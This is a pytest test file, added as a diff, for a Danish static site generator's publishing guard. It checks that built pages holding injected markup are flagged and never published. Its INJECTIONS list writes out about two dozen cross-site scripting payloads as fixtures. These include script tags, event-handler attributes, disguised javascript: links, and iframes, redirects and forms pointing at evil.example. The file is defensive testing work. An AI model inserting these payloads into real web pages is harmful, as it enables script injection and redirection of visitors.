@@ -1,0 +1,135 @@
+"""The last line of defence: a built page with script, event handlers, javascript: or outside loads is never published."""
+
+from __future__ import annotations
+
+import hashlib
+from pathlib import Path
+
+import pytest
+
+from conftest import TODAY, copy_project
+from generator.errors import GroupError
+from generator.guard import check_site, scan_page, scan_search_index, script_patterns
+from generator.pipeline import Project, build_group, prepare
+from generator.writer import read_site, read_theme_templates
+
+ROOT = Path(__file__).resolve().parent.parent
+
+
+@pytest.fixture(scope="module")
+def scripts():
+    return script_patterns(read_theme_templates(ROOT / "overrides"))
+
+
+@pytest.fixture(scope="module")
+def contract_pages(built_site):
+    return read_site(built_site)
+
+
+def test_contract_site_is_clean(contract_pages, scripts):
+    pages, index = contract_pages
+    assert len(pages) == 24  # 16 pages, 404.html and 7 printables (6 posters, the invitation)
+    assert index is not None
+    assert check_site(pages, index, scripts, "groups/nordsjaelland.yaml") == []
+
+
+def test_the_theme_scripts_are_recognised_not_waved_through(contract_pages, scripts):
+    # Every page has the theme's inline scripts; the scan must know each of them.
+    html = contract_pages[0]["index.html"]
+    assert html.count("<script>") == 3
+    assert scan_page(html, scripts) == []
+    assert scan_page(html, ()) == ["et <script>-element"]
+
+
+INJECTIONS = [
+    ("<script>alert(1)</script>", ["et <script>-element"]),
+    ('<script type="module">alert(1)</script>', ["et <script>-element"]),
+    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", ["noget, der hentes fra en anden server (src på <script>)", "et <script>-element, der henter //evil.example/x.js"]),
+    ('<script src="assets/javascripts/evil.js"></script>', ["et <script>-element, der henter assets/javascripts/evil.js"]),
+    ('<script>__md_scope=new URL("x",location)</script>', ["et <script>-element"]),
+    ("<scr<script>ipt>alert(1)</script>", ["et <script>-element, som er skrevet, så det er svært at få øje på"]),
+    ("<img src=x onerror=alert(1)>", ["en hændelsesattribut (onerror) på <img>"]),
+    ("<details open ontoggle=alert(1)>", ["en hændelsesattribut (ontoggle) på <details>"]),
+    ('<svg onload="alert(1)"></svg>', ["en hændelsesattribut (onload) på <svg>"]),
+    ('<a href="javascript:alert(1)">x</a>', ["en javascript:-adresse i href på <a>"]),
+    ('<a href="jav&#x09;ascript&colon;alert(1)">x</a>', ["en javascript:-adresse i href på <a>"]),
+    ('<a href=" JAVASCRIPT:alert(1)">x</a>', ["en javascript:-adresse i href på <a>"]),
+    ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', ["en javascript:-adresse i xlink:href på <a>"]),
+    ('<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>', ["en javascript:-adresse i values på <animate>"]),
+    ('<a href="data:text/html,x">x</a>', ["et link af typen data: på <a>"]),
+    ('<iframe src="https://evil.example"></iframe>', ["et <iframe>-element", "noget, der hentes fra en anden server (src på <iframe>)"]),
+    ('<object data="x.swf"></object>', ["et <object>-element"]),
+    ('<base href="https://evil.example/">', ["et <base>-element", "en henvisning til en anden server (href på <base>)"]),
+    ("<style>body{background:url(https://evil.example/x)}</style>", ["et <style>-element"]),
+    ('<img src="https://evil.example/p.png">', ["noget, der hentes fra en anden server (src på <img>)"]),
+    ("<img src=//evil.example/p.png>", ["noget, der hentes fra en anden server (src på <img>)"]),
+    ('<img srcset="a.png 1x, https://evil.example/b.png 2x">', ["noget, der hentes fra en anden server (srcset på <img>)"]),
+    ('<link rel="stylesheet" href="https://fonts.googleapis.com/css">', ["en <link rel=stylesheet>, der henter fra en anden server"]),
+    ('<div style="background:url(https://evil.example/x)">', ["CSS, der kan hente noget (style på <div>)"]),
+    ('<meta http-equiv="refresh" content="0;url=https://evil.example">', ["en <meta http-equiv=refresh>, der sender videre til en anden side"]),
+    ('<form action="https://evil.example"><input></form>', ["en formular, der sender til https://evil.example"]),
+]
+
+
+@pytest.mark.parametrize(("snippet", "expected"), INJECTIONS, ids=[s for s, _ in INJECTIONS])
+def test_injected_markup_is_found(contract_pages, scripts, snippet, expected):
+    html = contract_pages[0]["index.html"]
+    anchor = '<h2 id="om-gruppen">'
+    assert anchor in html
+    assert scan_page(html.replace(anchor, snippet + anchor), scripts) == expected
+
+
+@pytest.mark.parametrize(
+    "snippet",
+    [
+        '<a href="https://arbejdsmiljoweb.dk">ok</a>',
+        '<a href="mailto:a@example.dk">a@example.dk</a>',
+        '<a href="tel:20304050">20 30 40 50</a>',
+        '<p title="javascript: er bare tekst her">tekst</p>',
+        "<p>&lt;script&gt;alert(1)&lt;/script&gt; javascript&#58;alert(1)</p>",
+    ],
+)
+def test_harmless_markup_passes(contract_pages, scripts, snippet):
+    html = contract_pages[0]["index.html"].replace('<h2 id="om-gruppen">', snippet + '<h2 id="om-gruppen">')
+    assert scan_page(html, scripts) == []
+
+
+def test_search_index_with_markup_is_found(contract_pages):
+    index = contract_pages[1]
+    assert scan_search_index(index) == []
+    hostile = index.replace('"text":"', '"text":"<img src=x onerror=alert(1)>', 1)
+    assert scan_search_index(hostile) == ["søgeindekset indeholder et <img>-element"]
+    assert scan_search_index(index.replace('"text":"', '"text":"<p class=x>', 1)) == ["søgeindekset indeholder et <p>-element"]
+    assert scan_search_index("ikke json") == ["et søgeindeks, der ikke kan læses"]
+
+
+def test_problems_name_the_pages_once_per_kind(contract_pages, scripts):
+    pages = {rel: html.replace("</body>", "<img src=x onerror=alert(1)></body>") for rel, html in contract_pages[0].items()}
+    problems = check_site(pages, None, scripts, "groups/x.yaml")
+    assert [str(p) for p in problems] == [
+        "groups/x.yaml:1:1: den byggede side indeholder en hændelsesattribut (onerror) på <img>, som netvaerk ikke selv "
+        "har sat ind (404.html, dagsordener.html, index.html og 21 andre); siden er ikke lagt ud, og den forrige udgave er urørt"
+    ]
+
+
+def _tree(folder: Path) -> dict[str, str]:
+    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.rglob("*")) if p.is_file()}
+
+
+def test_a_build_with_injected_script_is_not_published(tmp_path):
+    # A compromised theme override stands in for any way markup could slip past escaping.
+    root = copy_project(tmp_path)
+    project, out, group = Project(root), root / "site", root / "groups" / "nordsjaelland.yaml"
+    prepare(out, project)
+    build_group(project, group, "nordsjaelland", out, TODAY)
+    before = _tree(out)
+    main = root / "overrides" / "main.html"
+    main.write_text(main.read_text().replace("{% endblock %}", '<img src="x" onerror="alert(1)">\n{% endblock %}', 1))
+    with pytest.raises(GroupError) as caught:
+        build_group(project, group, "nordsjaelland", out, TODAY)
+    assert [str(p) for p in caught.value.problems] == [
+        "groups/nordsjaelland.yaml:1:1: den byggede side indeholder en hændelsesattribut (onerror) på <img>, som netvaerk "
+        "ikke selv har sat ind (404.html, dagsordener.html, index.html og 14 andre); siden er ikke lagt ud, og den forrige udgave er urørt"
+    ]
+    assert _tree(out) == before
+    assert sorted(p.name for p in out.iterdir()) == [".netvaerk-site", "nordsjaelland"]
